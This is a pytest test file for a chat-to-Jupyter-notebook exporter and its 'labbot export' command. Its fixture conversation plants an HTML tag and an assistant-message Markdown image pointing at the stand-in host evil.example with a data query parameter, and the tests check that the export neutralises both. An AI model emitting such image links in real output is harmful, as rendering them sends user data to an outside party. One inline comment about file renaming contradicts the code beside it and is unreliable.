"""The exporter on a stored history (real SQLite, real file store), and `labbot export`."""

from __future__ import annotations

import asyncio
import base64
import json
import zipfile
from pathlib import Path

import nbformat
import pytest

from labbot.app import open_records
from labbot.chat.history import tool_message
from labbot.config import load_settings
from labbot.export import ExportError, export_conversation
from labbot.llm.tools import TOOL_NAME
from tests.conftest import chunks_of

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
)


def call(call_id: str, code: str) -> dict:
    arguments = json.dumps({"code": code})
    return {
        "id": call_id,
        "type": "function",
        "function": {"name": TOOL_NAME, "arguments": arguments},
    }


async def seed(data_dir: Path) -> dict[str, str]:
    """A user with two files of one name, a figure, and a conversation using them."""
    async with open_records(load_settings(LABBOT_DATA_DIR=data_dir)) as (store, conversations):
        old = (await store.save("7", "data.csv", chunks_of(b"a\n1\n"))).record
        new = (await store.save("7", "data.csv", chunks_of(b"a\n2\n"))).record
        figure = (await store.save("7", "figure-1.png", chunks_of(PNG), source="generated")).record
        gone = (await store.save("7", "gone.csv", chunks_of(b"x\n"))).record
        await store.delete("7", gone.id)
        result = {
            "status": "ok",
            "stdout": "2\n",
            "value": "2",
            "files": [figure.output().to_json()],
        }
        error = {
            "status": "error",
            "error": {
                "name": "NameError",
                "message": "name 'b' is not defined",
                "traceback": "Traceback\n  line 1\nNameError",
            },
        }
        await conversations.append(
            "7",
            "c",
            [
                {
                    "role": "user",
                    "content": f"Plot it <img src=x>\n\n[The user attached: data.csv (id"
                    f" {new.id})]",
                },
                {
                    "role": "assistant",
                    "content": "Looking. ![t](https://evil.example/?d=1)",
                    "tool_calls": [
                        call("k1", f"d = load_file('{old.id}')\nprint(2)\n2"),
                        call("k2", f"b\nload_file('{gone.id}')"),
                    ],
                },
                tool_message("k1", result),
                tool_message("k2", error),
                {"role": "assistant", "content": "Done."},
            ],
        )
    return {"old": old.id, "new": new.id, "figure": figure.id, "gone": gone.id}


async def test_a_stored_conversation_becomes_a_valid_notebook(tmp_path: Path) -> None:
    """Questions and answers are Markdown made inert; each call is a code cell with its
    stream, value, figure and error; the first cell maps the files it loads, same names apart."""
    ids = await seed(tmp_path / "data")
    async with open_records(load_settings(LABBOT_DATA_DIR=tmp_path / "data")) as (store, convs):
        done = await export_conversation(convs, store, "7", "c")
        with pytest.raises(ExportError, match="no conversation 'nope'"):
            await export_conversation(convs, store, "7", "nope")
        with pytest.raises(ExportError):  # another user's conversation of that name
            await export_conversation(convs, store, "8", "c")
    nb = nbformat.reads(done.text(), as_version=4)
    nbformat.validate(nb)
    assert [c.id for c in nb.cells[:2]] == ["cell-0", "cell-1"]
    kinds = [c.cell_type for c in nb.cells]
    assert kinds == ["code", "markdown", "markdown", "code", "code", "markdown"]
    question, answer = nb.cells[1].source, nb.cells[2].source
    assert "&lt;img src=x>" in question and "<img" not in question
    assert "!\\[t](https://evil.example" in answer
    first, second = nb.cells[3].outputs, nb.cells[4].outputs
    assert [o.output_type for o in first] == ["stream", "display_data", "execute_result"]
    assert base64.b64decode(first[1].data["image/png"]) == PNG
    assert first[2].data["text/plain"] == "2" and first[2].execution_count == 1
    assert second[0].output_type == "error" and second[0].ename == "NameError"
    assert second[0].traceback == ["Traceback", "  line 1", "NameError"]
    assert (
        {f.record.id: f.path for f in done.files}
        == {
            ids["new"]: "files/data.csv",  # the newest of a name keeps it, as in load_file
            ids["old"]: f"files/data-{ids['old'][:6]}.csv",
        }
    )  # the older is data.csv; the newer renamed, as both are loaded
    assert done.missing == (ids["gone"],)
    assert (
        f"# No longer stored (expired or deleted), so not exported: {ids['gone']}"
        in nb.cells[0].source
    )


def test_cli_export_writes_the_notebook_and_the_bundle(run, tmp_path: Path) -> None:
    """-o writes the notebook; --bundle a zip with the files; it never overwrites unasked,
    and an unknown conversation is one clear line."""
    ids = asyncio.run(seed(tmp_path / "data"))
    out = tmp_path / "out.ipynb"
    result = run("export", "--user", "7", "--conversation", "c", "-o", str(out))
    assert "6 cells" in result.output
    nbformat.validate(nbformat.read(out, as_version=4))
    run("export", "--user", "7", "--conversation", "c", "-o", str(out), code=2)  # exists
    bundle = tmp_path / "b.zip"
    summary = json.loads(
        run("export", "-u", "7", "-c", "c", "--bundle", "-o", str(bundle), "--json").output
    )
    assert summary["missing"] == [ids["gone"]] and summary["size"] == bundle.stat().st_size
    with zipfile.ZipFile(bundle) as archive:
        assert sorted(archive.namelist()) == sorted(
            ["b.ipynb", "files/data.csv", f"files/data-{ids['old'][:6]}.csv"]
        )
        assert archive.read("files/data.csv") == b"a\n2\n"
    failed = run("export", "-u", "7", "-c", "other", code=1)
    assert "There is no conversation 'other' to export." in failed.output
